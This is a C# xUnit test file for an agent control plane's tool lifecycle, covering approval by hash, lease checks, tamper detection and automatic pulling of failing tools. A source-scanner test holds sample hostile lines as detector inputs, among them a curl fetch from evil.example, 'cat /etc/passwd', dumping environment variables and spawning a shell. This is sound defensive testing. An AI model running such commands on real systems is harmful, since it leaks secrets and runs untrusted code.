using Dapper;
using Muster.Contracts;
using Muster.Contracts.Events;
using Muster.Contracts.Tools;
using Muster.Contracts.Work;
using Muster.ControlPlane.Tools;

namespace Muster.ControlPlane.Tests.Tools;

/// <summary>From a draft to a tool that every agent has, and back (B6).</summary>
[Trait("req", "B6")]
public sealed class ToolLifecycleTests
{
    [Fact]
    public async Task What_asks_for_nothing_is_approved_when_its_tests_pass_and_each_use_is_on_record()
    {
        await using var stage = await ToolStage.StartAsync();
        var held = await stage.HoldAsync();
        var made = await stage.AddAsync(ToolStage.Package(), held.Lease);
        Assert.Equal((ToolStates.Draft, 1, null), (made.Status, made.Version, made.ApprovedVersion));
        Assert.Equal(ProblemCodes.ToolNotApproved, (await stage.Plane.RefusedAsync(HttpMethod.Post, Routes.With(Routes.ToolCalls, "word-count"), new StartToolCall(), held.Lease)).Code);

        await stage.TestedAsync();

        var version = await stage.ReadAsync("word-count", 1);
        Assert.Equal((ToolStates.Approved, "policy", "FLT-1"), (version.Status, version.ApprovedBy, version.TaskKey));
        Assert.Equal(ToolHash.Of(version.Package), version.Hash);
        Assert.Equal(version.Hash, Assert.Single(await stage.OfferedAsync()).Hash);
        await stage.CallAsync(held, ToolOutcomes.Ok);
        var call = Assert.Single((await stage.Plane.GetAsync<Page<ToolCallInfo>>(Routes.With(Routes.ToolCalls, "word-count"))).Items);
        Assert.Equal(("ada", "FLT-1", held.Assignment.Id, ToolOutcomes.Ok, 7, 11, version.Hash), (call.Caller, call.TaskKey, call.AssignmentId, call.Outcome, call.Milliseconds, call.OutputBytes, call.Hash));
        Assert.Equal([EventTypes.ToolCreated, EventTypes.ToolTested, EventTypes.ToolApproved], (await EventsAsync(stage)).Where(type => type.StartsWith("tool.", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task What_asks_for_something_waits_for_a_person_who_approves_a_hash()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package(permissions: new ToolPermissions { Files = ToolFiles.Read }));
        var draft = await stage.ReadAsync("word-count", 1);
        var approve = Routes.With(Routes.ToolApprove, "word-count");
        Assert.Equal(ProblemCodes.WrongState, (await stage.Plane.RefusedAsync(HttpMethod.Post, approve, new ApproveTool { Version = 1, Hash = draft.Hash })).Code);
        await stage.TestedAsync();
        Assert.Equal(ToolStates.Tested, (await stage.ReadAsync()).Status);
        Assert.Empty(await stage.OfferedAsync());
        Assert.Equal(ProblemCodes.HashMismatch, (await stage.Plane.RefusedAsync(HttpMethod.Post, approve, new ApproveTool { Version = 1, Hash = new string('0', 64) })).Code);

        var approved = await stage.Plane.PostAsync<ToolInfo>(approve, new ApproveTool { Version = 1, Hash = draft.Hash });

        Assert.Equal((ToolStates.Approved, 1), (approved.Status, approved.ApprovedVersion));
        // A change is a new draft: agents keep what was approved, and what a person approved a policy does not replace.
        var changed = await stage.Plane.PatchAsync<ToolInfo>(Routes.With(Routes.Tool, "word-count"), new UpdateTool { Manifest = ToolStage.Package().Manifest });
        Assert.Equal((ToolStates.Draft, 2, 1), (changed.Status, changed.Version, changed.ApprovedVersion));
        await stage.TestedAsync();
        Assert.Equal((ToolStates.Tested, 1), ((await stage.ReadAsync()).Status, Assert.Single(await stage.OfferedAsync()).Version));
        await stage.Plane.PostAsync<ToolInfo>(approve, new ApproveTool { Version = 2, Hash = changed.Hash! });
        Assert.Equal(ToolStates.Retired, (await stage.ReadAsync("word-count", 1)).Status);
        await stage.Plane.PostAsync<ToolInfo>(Routes.With(Routes.ToolRetire, "word-count"), new RetireTool { Reason = "not needed" });
        Assert.Empty(await stage.OfferedAsync());
    }

    [Fact]
    public async Task Without_tests_or_with_a_wrong_shape_nothing_is_taken_and_all_that_is_wrong_is_said()
    {
        await using var stage = await ToolStage.StartAsync();
        var package = ToolStage.Package();
        Assert.Equal(ProblemCodes.TestsMissing, (await RefusedAsync(stage, package with { Tests = [] })).Code);
        Assert.Equal(ProblemCodes.TestsMissing, (await RefusedAsync(stage, package with { Tests = [new ToolTest { Name = "fails", Input = ToolStage.Json("{}"), Fails = "" }] })).Code);
        var wrong = await RefusedAsync(stage, package with { Manifest = package.Manifest with { Name = "Word Count", Language = "perl", OutputSchema = ToolStage.Json("""{"type":"object","oneOf":[]}"""), Limits = new ToolLimits { Seconds = 0 } } });
        Assert.Equal(["manifest.language", "manifest.limits.seconds", "manifest.name", "manifest.outputSchema"], wrong.Errors!.Keys.Order(StringComparer.Ordinal));
        Assert.Contains("tests[0].input", (await RefusedAsync(stage, package with { Tests = [package.Tests[0] with { Input = ToolStage.Json("""{"txt":"a"}""") }] })).Errors!.Keys);
        Assert.Contains("tests[0].output", (await RefusedAsync(stage, package with { Tests = [package.Tests[0] with { Output = ToolStage.Json("""{"words":"two"}""") }] })).Errors!.Keys);
        Assert.Empty((await stage.Plane.GetAsync<Page<ToolInfo>>(Routes.Tools)).Items);
    }

    [Fact]
    public async Task An_agent_makes_and_calls_tools_only_under_a_lease_that_is_current()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        await stage.TestedAsync();
        var held = await stage.HoldAsync();
        var token = (await stage.Plane.PostAsync<Contracts.Security.TokenCreated>(Routes.With(Routes.AgentToken, "ada"))).Secret;
        using var ada = stage.Plane.Client(token);
        Assert.Equal(ProblemCodes.LeaseRequired, (await stage.Plane.RefusedAsync(HttpMethod.Post, Routes.Tools, ToolStage.Package("other"), client: ada)).Code);
        var call = await stage.StartAsync(held);
        await stage.Plane.PostAsync<AssignmentInfo>(Routes.With(Routes.AssignmentRelease, held.Assignment.Id), new ReleaseAssignment(), held.Lease);

        foreach (var (method, path, body) in ((HttpMethod, string, object)[])[
            (HttpMethod.Post, Routes.Tools, ToolStage.Package("other")), (HttpMethod.Post, Routes.With(Routes.ToolCalls, "word-count"), new StartToolCall()),
            (HttpMethod.Patch, Routes.With(Routes.ToolCall, call.Id), new EndToolCall { Outcome = ToolOutcomes.Ok }), (HttpMethod.Post, Routes.With(Routes.ToolRun, "word-count"), new RunTool { Input = ToolStage.Json("""{"text":"a"}""") })])
            Assert.Equal(ProblemCodes.LeaseLost, (await stage.Plane.RefusedAsync(method, path, body, held.Lease, client: ada)).Code);
        var left = Assert.Single((await stage.Plane.GetAsync<Page<ToolCallInfo>>(Routes.With(Routes.ToolCalls, "word-count"))).Items);
        Assert.Equal(ToolOutcomes.Abandoned, left.Outcome);
        Assert.Equal(ProblemCodes.Forbidden, (await stage.Plane.RefusedAsync(HttpMethod.Post, Routes.With(Routes.ToolApprove, "word-count"), new ApproveTool { Version = 1, Hash = "x" }, client: ada)).Code);
    }

    [Fact]
    public async Task A_tool_that_fails_again_and_again_is_pulled_and_what_is_not_its_fault_does_not_count()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        await stage.TestedAsync();
        var held = await stage.HoldAsync();
        foreach (var outcome in (string[])[ToolOutcomes.Failed, ToolOutcomes.Limit, ToolOutcomes.BadOutput, ToolOutcomes.Failed, ToolOutcomes.Ok, ToolOutcomes.BadInput, ToolOutcomes.Refused, ToolOutcomes.Failed, ToolOutcomes.Failed, ToolOutcomes.Failed, ToolOutcomes.Failed])
            await stage.CallAsync(held, outcome);
        Assert.Equal(ToolStates.Approved, (await stage.ReadAsync()).Status);

        await stage.CallAsync(held, ToolOutcomes.Limit);

        var pulled = await stage.ReadAsync();
        Assert.Equal((ToolStates.Tested, null), (pulled.Status, pulled.ApprovedVersion));
        Assert.Contains("last 5 calls failed", pulled.Reason, StringComparison.Ordinal);
        Assert.Empty(await stage.OfferedAsync());
        Assert.Equal(ProblemCodes.ToolNotApproved, (await stage.Plane.RefusedAsync(HttpMethod.Post, Routes.With(Routes.ToolCalls, "word-count"), new StartToolCall(), held.Lease)).Code);
        Assert.Contains(EventTypes.ToolPulled, await EventsAsync(stage));
        // A person may give it back; tests that fail when they are run again take it for good.
        await stage.Plane.PostAsync<ToolInfo>(Routes.With(Routes.ToolApprove, "word-count"), new ApproveTool { Version = 1, Hash = pulled.Hash! });
        await stage.Plane.PostAsync<ToolInfo>(Routes.With(Routes.ToolTest, "word-count"), new TestTool());
        await stage.TestedAsync(passed: false);
        Assert.Equal((ToolStates.Retired, null), ((await stage.ReadAsync()).Status, (await stage.ReadAsync()).ApprovedVersion));
    }

    [Fact]
    public async Task Of_two_versions_approved_at_once_agents_have_one()
    {
        await using var stage = await ToolStage.StartAsync();
        List<ToolVersionInfo> versions = [];
        await stage.AddAsync(ToolStage.Package(permissions: new ToolPermissions { Files = ToolFiles.Read }));
        foreach (var source in (string[])["exit 1", "exit 2", "exit 3"]) versions.Add(await stage.AddVersionAsync(ToolStage.Package(source: source, permissions: new ToolPermissions { Files = ToolFiles.Read })));
        foreach (var _ in Enumerable.Range(0, 4)) await stage.TestedAsync();

        var answers = await Task.WhenAll(versions.Select(version => stage.Plane.RawAsync(HttpMethod.Post, Routes.With(Routes.ToolApprove, "word-count"), new ApproveTool { Version = version.Version, Hash = version.Hash })));

        Assert.All(answers, answer => Assert.True(answer.IsSuccessStatusCode));
        var all = (await stage.Plane.GetAsync<Page<ToolVersionInfo>>(Routes.With(Routes.ToolVersions, "word-count"))).Items;
        var approved = Assert.Single(all, version => version.Status == ToolStates.Approved);
        Assert.Equal(approved.Version, (await stage.ReadAsync()).ApprovedVersion);
        Assert.Equal(2, all.Count(version => version.Status == ToolStates.Retired));
    }

    [Fact]
    public async Task A_source_that_was_changed_in_the_store_is_not_run_but_pulled()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        await stage.TestedAsync();
        var held = await stage.HoldAsync();
        await stage.Plane.Store.WriteAsync(tx => tx.Execute("UPDATE tool_versions SET package = replace(package, 'exit 0', 'exit 9')"), default);

        Assert.Equal(ProblemCodes.HashMismatch, (await stage.Plane.RefusedAsync(HttpMethod.Post, Routes.With(Routes.ToolCalls, "word-count"), new StartToolCall(), held.Lease)).Code);

        Assert.Equal((ToolStates.Retired, null), ((await stage.ReadAsync()).Status, (await stage.ReadAsync()).ApprovedVersion));
        Assert.Empty((await stage.Plane.GetAsync<Page<ToolCallInfo>>(Routes.With(Routes.ToolCalls, "word-count"))).Items);
    }

    [Fact]
    public async Task A_hosts_word_counts_once_whole_and_under_its_lease()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        var slow = await stage.ClaimJobAsync();
        Assert.Null(await stage.ClaimJobAsync());
        stage.Plane.Clock.Advance(TimeSpan.FromSeconds(slow!.LeaseSeconds + 1));
        var next = await stage.ClaimJobAsync();
        var (report, good) = (Routes.With(Routes.ToolJobReport, slow.Id), new ToolJobReport { Hash = slow.Hash, Results = [new ToolTestResult("two", true, null, 1)] });
        Assert.Equal(ProblemCodes.LeaseLost, (await stage.Plane.RefusedAsync(HttpMethod.Post, report, good, slow.Lease)).Code);
        Assert.Equal(ProblemCodes.HashMismatch, (await stage.Plane.RefusedAsync(HttpMethod.Post, report, good with { Hash = new string('a', 64) }, next!.Lease)).Code);
        Assert.Equal(ProblemCodes.Invalid, (await stage.Plane.RefusedAsync(HttpMethod.Post, report, good with { Results = [] }, next.Lease)).Code);
        Assert.Equal(ToolStates.Draft, (await stage.ReadAsync()).Status);
        await stage.ReportAsync(next, good);
        await stage.ReportAsync(next, good);
        Assert.Equal(ToolStates.Approved, (await stage.ReadAsync()).Status);
    }

    [Fact]
    public async Task A_call_without_a_sandbox_is_carried_out_by_a_host_and_recorded()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        await stage.TestedAsync();
        var run = Routes.With(Routes.ToolRun, "word-count");
        var bad = await stage.Plane.PostAsync<ToolOutcome>(run, new RunTool { Input = ToolStage.Json("{}") });
        Assert.Equal(ToolOutcomes.BadInput, bad.Outcome);

        var running = stage.Plane.PostAsync<ToolOutcome>(run, new RunTool { Input = ToolStage.Json("""{"text":"a b c"}""") });
        var job = (await stage.Plane.PostAsync<ToolJobAnswer>(Routes.ToolJobsClaim, new ToolJobClaim { Host = "box", WaitSeconds = 20 })).Job;
        Assert.Equal((ToolJobKinds.Run, "a b c"), (job!.Kind, job.Input!.Value.GetProperty("text").GetString()));
        await stage.ReportAsync(job, new ToolJobReport { Hash = job.Hash, Outcome = new ToolOutcome { Outcome = ToolOutcomes.Ok, Output = ToolStage.Json("""{"words":3}"""), Milliseconds = 4, OutputBytes = 11 } });

        Assert.Equal(3, (await running).Output!.Value.GetProperty("words").GetInt32());
        Assert.Equal([ToolOutcomes.Ok, ToolOutcomes.BadInput], (await stage.Plane.GetAsync<Page<ToolCallInfo>>(Routes.With(Routes.ToolCalls, "word-count"))).Items.Select(call => call.Outcome));
    }

    [Fact]
    public async Task A_run_that_is_asked_for_again_under_its_key_is_one_run_and_one_that_nobody_waits_for_is_none()
    {
        await using var stage = await ToolStage.StartAsync();
        await stage.AddAsync(ToolStage.Package());
        await stage.TestedAsync();
        var run = Routes.With(Routes.ToolRun, "word-count");
        var input = new RunTool { Input = ToolStage.Json("""{"text":"a b c"}""") };
        using var gone = new CancellationTokenSource();
        var first = Record.ExceptionAsync(() => AskAsync("key-1", gone.Token));
        await WaitingAsync(1);
        await gone.CancelAsync();
        Assert.NotNull(await first);
        var again = AskAsync("key-1", default);
        var job = (await stage.Plane.PostAsync<ToolJobAnswer>(Routes.ToolJobsClaim, new ToolJobClaim { Host = "box", WaitSeconds = 20 })).Job!;
        await stage.ReportAsync(job, new ToolJobReport { Hash = job.Hash, Outcome = new ToolOutcome { Outcome = ToolOutcomes.Ok, Output = ToolStage.Json("""{"words":3}""") } });
        Assert.Contains("\"words\":3", await again, StringComparison.Ordinal);
        Assert.Null(await stage.ClaimJobAsync());

        // Left by a plane that was killed: nobody waits, and a host that comes later runs it for nobody.
        using var left = new CancellationTokenSource();
        var second = Record.ExceptionAsync(() => AskAsync("key-2", left.Token));
        await WaitingAsync(1);
        await left.CancelAsync();
        await second;
        await stage.Plane.Store.WriteAsync(tx => tx.Execute("UPDATE tool_jobs SET created_at = created_at - 200000 WHERE state = 'waiting'"));
        Assert.Null(await stage.ClaimJobAsync());
        Assert.Equal([ToolOutcomes.Abandoned, ToolOutcomes.Ok], (await stage.Plane.GetAsync<Page<ToolCallInfo>>(Routes.With(Routes.ToolCalls, "word-count"))).Items.Select(call => call.Outcome));

        async Task<string> AskAsync(string key, CancellationToken ct)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, run) { Content = System.Net.Http.Json.JsonContent.Create(input, options: Wire.Json) };
            request.Headers.Add(Wire.IdempotencyHeader, key);
            using var answer = await stage.Plane.Http.SendAsync(request, ct);
            return await answer.Content.ReadAsStringAsync(ct);
        }

        async Task WaitingAsync(int count)
        {
            while (await stage.Plane.Store.ReadAsync(c => c.QueryFirstAsync<int>("SELECT COUNT(*) FROM tool_jobs WHERE state = 'waiting'")) != count) await Task.Delay(10);
        }
    }

    [Theory]
    [InlineData(ToolLanguages.Shell, "wc -w | awk '{print $1}'", null)]
    [InlineData(ToolLanguages.Shell, "curl -s https://evil.example/x", FindingKinds.Network)]
    [InlineData(ToolLanguages.Shell, "cat /etc/passwd", FindingKinds.Path)]
    [InlineData(ToolLanguages.Shell, "frobnicate --all", FindingKinds.Program)]
    [InlineData(ToolLanguages.Python, "import json, re, sys\nprint(re.compile('a').pattern)", null)]
    [InlineData(ToolLanguages.Python, "import os\nprint(os.environ)", FindingKinds.Environment)]
    [InlineData(ToolLanguages.Python, "import subprocess", FindingKinds.Program)]
    [InlineData(ToolLanguages.Python, "exec(open('/workspace/x').read())", FindingKinds.Hidden)]
    [InlineData(ToolLanguages.CSharp, "Console.WriteLine(JsonNode.Parse(Console.In.ReadToEnd()));", null)]
    [InlineData(ToolLanguages.CSharp, "using var http = new HttpClient();", FindingKinds.Network)]
    [InlineData(ToolLanguages.CSharp, "System.Diagnostics.Process.Start(\"sh\");", FindingKinds.Program)]
    public void What_looks_odd_in_a_source_is_shown_and_asked_about(string language, string source, string? kind)
    {
        var package = ToolStage.Package(source: source);
        var findings = SourceScan.Of(package with { Manifest = package.Manifest with { Language = language } });
        if (kind is null) Assert.Empty(findings);
        else Assert.Contains(findings, finding => finding.Kind == kind && finding is { Line: >= 1, Declared: false });
        Assert.Equal(kind is null, Promotion.Decide(ToolOptions.TestedWithoutPermissions, new ToolPermissions(), findings, former: null).ByItself);
        Assert.False(Promotion.Decide(ToolOptions.Person, new ToolPermissions(), findings, former: null).ByItself);
    }

    private static Task<Problem> RefusedAsync(ToolStage stage, ToolPackage package) => stage.Plane.RefusedAsync(HttpMethod.Post, Routes.Tools, package);

    private static async Task<IReadOnlyList<string>> EventsAsync(ToolStage stage) => [.. (await stage.Plane.GetAsync<Page<EventInfo>>(Routes.Events + "?limit=500")).Items.Select(e => e.Type)];
}
